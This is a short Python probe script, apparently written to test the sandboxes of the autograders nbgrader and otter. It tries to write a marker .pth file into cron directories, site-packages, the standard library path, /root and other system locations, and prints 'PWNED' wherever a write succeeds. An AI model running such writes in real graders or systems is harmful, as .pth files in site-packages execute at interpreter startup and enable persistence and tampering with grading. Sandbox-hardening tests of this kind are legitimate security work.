"""Writes wherever something might be found, or run, later.

against: nbgrader, otter
"""
import os
import sys
import sysconfig

for folder in (
    "/", "/tmp", "/var/tmp", "/dev/shm", "/dev", "/run", "/etc/cron.d", "/var/spool/cron", "/usr", "/usr/lib", "/root", "/home", "/proc", "/sys",
    "@COURSE@", "@STATE@", sysconfig.get_path("purelib"), os.path.dirname(os.__file__), sys.prefix, sys.base_prefix, os.path.expanduser("~root"),
):
    try:
        with open(os.path.join(folder, "LEFT-@TOKEN@.pth"), "w") as file:
            file.write("import os")
        print("PWNED", folder)
    except OSError:
        continue
print("TRIED")
